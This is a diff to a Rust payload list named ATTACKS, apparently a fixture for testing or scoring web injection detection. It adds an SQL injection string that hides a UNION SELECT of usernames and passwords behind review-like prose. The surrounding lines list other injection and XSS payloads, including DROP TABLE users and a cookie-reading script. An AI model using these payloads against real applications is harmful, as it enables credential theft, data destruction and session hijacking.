@@ -20,6 +20,8 @@ pub const ATTACKS: &[Payload] = &[
     p("sqli-sleep", "sqli", "1 AND SLEEP(5)-- -"),
     p("sqli-stacked", "sqli", "1; DROP TABLE users--"),
     p("sqli-error", "sqli", "1 AND extractvalue(1,concat(0x7e,(SELECT version())))"),
+    // The application's literal held prose before the break-out (scoring/src/sql_breakouts.rs).
+    p("sqli-padded-union", "sqli", "Great kettle, it arrived two days early and works well' UNION SELECT username, password FROM users--"),
     p("xss-script", "xss", "<script>alert(1)</script>"),
     p("xss-img-onerror", "xss", "<img src=x onerror=alert(document.cookie)>"),
     p("xss-svg-onload", "xss", "<svg/onload=alert(1)>"),
